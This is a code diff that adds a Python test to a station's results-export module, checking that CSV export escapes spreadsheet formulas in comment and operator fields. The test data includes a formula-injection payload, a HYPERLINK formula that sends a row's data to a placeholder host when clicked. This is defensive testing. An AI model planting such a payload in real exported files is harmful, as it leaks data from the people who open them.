@@ -61,3 +61,20 @@ def test_a_register_driven_result_that_does_not_read_is_said_as_its_registers():
     assert message_words(61, 7) == "MID 0061 revision 7"
     assert _unreadable_comment({"mid": 0, "revision": 0, "error": "result status: x"}) == \
         "result registers: result status: x"
+
+
+def test_a_text_a_spreadsheet_would_run_as_a_formula_is_exported_as_text():
+    """An operator allowed a skip typed ``=HYPERLINK(...)`` as its comment: the screens'
+    CSV carried it as a formula that a spreadsheet runs (sending the row on a click)."""
+    import csv
+    import io
+
+    from stationd.web.results import CSV_FIELDS
+
+    row: dict[str, object] = {k: None for k in CSV_FIELDS}
+    row.update(vin=VIN, bolt="B1", images=[], comment='=HYPERLINK("http://x/?"&A2,"go")',
+               angle_deg=-3.5, operator="@olga")
+    out = list(csv.DictReader(io.StringIO(rundowns_csv([row]))))
+    assert out[0]["comment"] == '\'=HYPERLINK("http://x/?"&A2,"go")'
+    assert out[0]["operator"] == "'@olga"
+    assert out[0]["angle_deg"] == "-3.5" and out[0]["vin"] == VIN     # numbers as they are
